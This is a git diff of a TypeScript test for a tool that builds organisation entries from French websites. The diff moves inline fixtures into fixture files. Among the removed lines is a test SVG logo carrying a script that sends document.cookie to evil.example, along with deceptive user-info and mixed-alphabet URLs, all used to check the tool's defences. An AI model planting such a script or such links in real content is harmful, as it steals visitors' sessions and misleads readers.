@@ -1,10 +1,10 @@
 import { readdir, readFile } from 'node:fs/promises';
 import type { RequestListener } from 'node:http';
 import { join } from 'node:path';
-import sharp from 'sharp';
+import { lookup } from 'mrmime';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { serve } from '../support/servers';
-import { createTempProject, proxyEnv, run, type CommandResult, type TempProject } from '../support/temp-project';
+import { createTempProject, PROJECT_ROOT, proxyEnv, run, type CommandResult, type TempProject } from '../support/temp-project';
 
 /**
  * `npm run new -- https://…` against fixture sites, with no network: a loopback server plays the web, reached
@@ -16,15 +16,7 @@ const SLOW = 180_000;
 /** Short, so that the site that never answers costs little. */
 const TIMEOUT_MS = 1500;
 
-const image = (width: number, height: number, background = '#2a6f4e', format: 'png' | 'jpeg' = 'png') =>
-  sharp({ create: { width, height, channels: 3, background } })
-    .toFormat(format)
-    .toBuffer();
-const SVG_LOGO =
-  '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200" viewBox="0 0 600 200"><rect width="600" height="200" fill="#1b4f72"/><circle cx="100" cy="100" r="60" fill="#f4d03f"/></svg>';
-
-const page = (head: string) =>
-  `<!doctype html><html lang="fr"><head><meta charset="utf-8">${head}</head><body><h1>Accueil</h1></body></html>`;
+const SITES = join(PROJECT_ROOT, 'tests/fixtures/sites');
 
 const send =
   (type: string, body: string | Buffer): RequestListener =>
@@ -39,63 +31,18 @@ const redirect =
     response.writeHead(status, { location }).end();
   };
 
-/** The fixture sites' pages, by address: what their <head> declares. The other answers are in ROUTES. */
-const PAGES: Record<string, string> = {
-  'www.svg-asso.test/':
-    '<title>Accueil - Association SVG</title><meta property="og:site_name" content="Association SVG"><meta property="og:description" content="Une association qui dessine en vecteurs : *net* à toutes les tailles, <vraiment>."><link rel="icon" type="image/svg+xml" href="/logo.svg"><link rel="apple-touch-icon" href="/apple.png">',
-  'www.manifeste.test/':
-    '<title>Le Manifeste | Accueil</title><link rel="manifest" href="/site.webmanifest"><meta name="description" content="Un collectif qui publie son manifeste.">',
-  'www.favicon.test/': '<title>Petite Icône</title><link rel="icon" href="/favicon-32.png" sizes="32x32">',
-  'www.og-image.test/':
-    '<meta property="og:site_name" content="Image de Partage"><meta property="og:image" content="/partage.jpg"><link rel="icon" href="/favicon.ico">',
-  'www.gros-logo.test/': '<meta property="og:site_name" content="Gros Logo"><link rel="icon" href="/enorme.png" sizes="4096x4096">',
-  'www.svg-piege.test/':
-    '<meta property="og:site_name" content="SVG Piégé"><link rel="icon" type="image/svg+xml" href="/logo.svg"><link rel="apple-touch-icon" sizes="512x512" href="/apple-512.png">',
-  // A description the build would refuse as written: a heading, an address with user info, a host mixing alphabets.
-  'www.diese.test/':
-    '<meta property="og:site_name" content="Dièse"><meta property="og:description" content="# Rejoignez-nous ! Écrivez à https://www.diese.test@evil.example/ ou lisez www.lеmediatv.fr, et https://www.diese.test/agir.">',
-  // A code fence that the build refuses (its « language » is not a word), and a character reference written as text.
-  'www.tildes.test/':
-    '<meta property="og:site_name" content="Les Tildes"><meta property="og:description" content="~~~ Éducation populaire &amp;copy; pour toutes et tous">',
-  // Names with nothing to make a file name of.
-  'www.emoji.test/': '<meta property="og:site_name" content="🌍🌱">',
-  'www.separateurs.test/': '<title>— | —</title>',
-  'www.redirige.test/arrivee/':
-    '<meta property="og:site_name" content="Au Bout des Redirections"><link rel="icon" type="image/svg+xml" href="logo.svg">',
-};
-
+/**
+ * The answers that are not a file of tests/fixtures/sites/<host>/ (a folder's index.html, typed by its extension). Each
+ * site's logo there has its own colours: a logo of the same bytes as another site's would be published once, under one name.
+ */
 const ROUTES: Record<string, RequestListener> = {
-  'www.svg-asso.test/logo.svg': send('image/svg+xml', SVG_LOGO),
-  'www.svg-asso.test/apple.png': send('image/png', await image(180, 180)),
-  'www.manifeste.test/site.webmanifest': send(
-    'application/manifest+json',
-    JSON.stringify({
-      name: 'Le Manifeste',
-      icons: [
-        { src: '/icone-192.png', sizes: '192x192', type: 'image/png' },
-        { src: '/icone-512.png', sizes: '512x512', type: 'image/png' },
-      ],
-    }),
-  ),
-  'www.manifeste.test/icone-192.png': send('image/png', await image(192, 192)),
-  'www.manifeste.test/icone-512.png': send('image/png', await image(512, 512)),
-  'www.favicon.test/favicon-32.png': send('image/png', await image(32, 32)),
-  'www.og-image.test/partage.jpg': send('image/jpeg', await image(1200, 630, '#7d3c98', 'jpeg')),
   'www.og-image.test/favicon.ico': send('image/x-icon', Buffer.from('pas une image')),
   'www.redirige.test/': redirect('/etape-1'),
   'www.redirige.test/etape-1': redirect('http://www.redirige.test/arrivee/', 302),
-  // Its own drawing: a logo of the same bytes as another site's would be published once, under either name.
-  'www.redirige.test/arrivee/logo.svg': send('image/svg+xml', SVG_LOGO.replace('#1b4f72', '#6c3483')),
   'www.lent.test/': () => {},
   'www.pdf.test/': send('application/pdf', Buffer.from('%PDF-1.4 une plaquette')),
   // 20 MB announced and sent, far beyond the limit: the download stops early.
   'www.gros-logo.test/enorme.png': send('image/png', Buffer.alloc(20_000_000)),
-  'www.svg-piege.test/logo.svg': send(
-    'image/svg+xml',
-    SVG_LOGO.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'),
-  ),
-  // Another colour: the same bytes as another site's logo would be published once, under that site's name.
-  'www.svg-piege.test/apple-512.png': send('image/png', await image(512, 512, '#884422')),
   // Older French sites: ISO-8859-1 declared by the server, windows-1252 declared only in the page.
   'www.latin1.test/': send(
     'text/html; charset=ISO-8859-1',
@@ -140,10 +87,15 @@ const results = new Map<string, CommandResult & { ms: number }>();
 
 beforeAll(async () => {
   // As a proxy, the server receives absolute addresses (`GET http://www.svg-asso.test/ HTTP/1.1`).
-  const server = await serve((request, response) => {
+  const server = await serve(async (request, response) => {
     const { host, pathname } = new URL(request.url ?? '/', `http://${request.headers.host}`);
-    const head = PAGES[host + pathname];
-    const handler = ROUTES[host + pathname] ?? (head === undefined ? undefined : send('text/html', page(head)));
+    const file = join(SITES, host, pathname.endsWith('/') ? `${pathname}index.html` : pathname);
+    const handler =
+      ROUTES[host + pathname] ??
+      (await readFile(file).then(
+        (body) => send(lookup(file) ?? 'application/octet-stream', body),
+        () => undefined,
+      ));
     if (handler) return handler(request, response);
     response.writeHead(404, { 'content-type': 'text/html' }).end('<h1>Introuvable</h1>');
   });
@@ -180,7 +132,9 @@ describe('npm run new -- <address>: what it takes from the page', () => {
     expect(output).toContain('Nom : Association SVG (og:site_name)');
     expect(output).toContain('Logo choisi : http://www.svg-asso.test/logo.svg (icône SVG)');
     expect(await filesOf('association-svg')).toEqual(['association-svg.md', 'association-svg.svg']);
-    expect(await readFile(join(project.organisations, 'association-svg.svg'), 'utf8')).toBe(SVG_LOGO);
+    expect(await readFile(join(project.organisations, 'association-svg.svg'))).toEqual(
+      await readFile(join(SITES, 'www.svg-asso.test/logo.svg')),
+    );
     const entry = await entryOf('association-svg');
     expect(entry).toContain('name: Association SVG');
     expect(entry).toContain('# La description sous l’en-tête vient du site de l’organisation (og:description) :');
